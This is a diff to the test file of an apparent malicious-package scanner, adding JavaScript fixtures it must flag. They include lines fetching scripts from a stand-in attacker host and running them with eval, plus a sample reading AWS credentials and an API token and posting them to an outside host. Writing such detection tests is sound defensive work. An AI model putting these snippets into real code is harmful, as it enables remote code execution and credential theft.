@@ -260,9 +260,10 @@ https.get('https://c2.attacker.invalid/stage.js', (res) => {
   res.on('end', () => { eval(body); });
 });
 fetch('https://c2.attacker.invalid/2.js').then((r) => r.text()).then((t) => new Function(t)());
+fetch('https://c2.attacker.invalid/3.js').then((r) => r.text()).then(eval);
 """
     assert [(h.rule, h.line) for h in hits(code) if h.rule == "download-and-execute"] == \
-        [("download-and-execute", 6), ("download-and-execute", 8)]
+        [("download-and-execute", 6), ("download-and-execute", 8), ("download-and-execute", 9)]
 
 
 def test_harmless_dynamic_code_is_clean() -> None:
@@ -478,3 +479,19 @@ def test_python_packages_do_not_get_javascript_analysis(tmp_path: Path) -> None:
     (tmp_path / "static" / "x.js").write_text(f"eval(atob('{b64(CURL_SH)}'));")
     assert inspect_tree(tmp_path, PackageId(Ecosystem.PYPI, "x")).findings == []
     assert inspect_tree(tmp_path, PackageId(Ecosystem.NPM, "x")).verdict == "malicious"
+
+
+def test_functions_called_at_module_level_run_at_load_time() -> None:
+    code = """
+const fs = require('fs'), os = require('os');
+async function main() { await steal(); }
+async function steal() {
+  const key = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');
+  await fetch('https://api.example.invalid/v1', { method: 'POST', body: process.env.ACME_API_TOKEN + key });
+}
+main().catch(() => {});
+"""
+    found = rules(code)
+    assert found["credential-file-access"] is Severity.HIGH and found["secret-exfiltration"] is Severity.CRITICAL
+    library = code.replace("main().catch(() => {});", "module.exports = main;")
+    assert rules(library)["credential-file-access"] is Severity.MEDIUM
